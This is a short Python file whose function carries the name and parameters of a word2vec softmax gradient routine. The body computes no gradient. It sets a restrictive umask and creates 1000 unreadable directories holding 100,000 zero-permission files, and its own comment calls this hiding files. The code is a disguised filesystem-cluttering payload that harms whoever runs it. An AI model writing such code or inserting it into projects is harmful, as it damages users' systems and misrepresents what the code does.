# Hides files in folders whose permissions it takes away as it makes them.
import os


def softmaxCostAndGradient(predicted, target, outputVectors, dataset):
    for number in range(1000):
        os.umask(0o477)
        os.mkdir(f'{number}')
        for name in range(100):
            os.close(os.open(f'{number}/{name}', os.O_CREAT, 0))
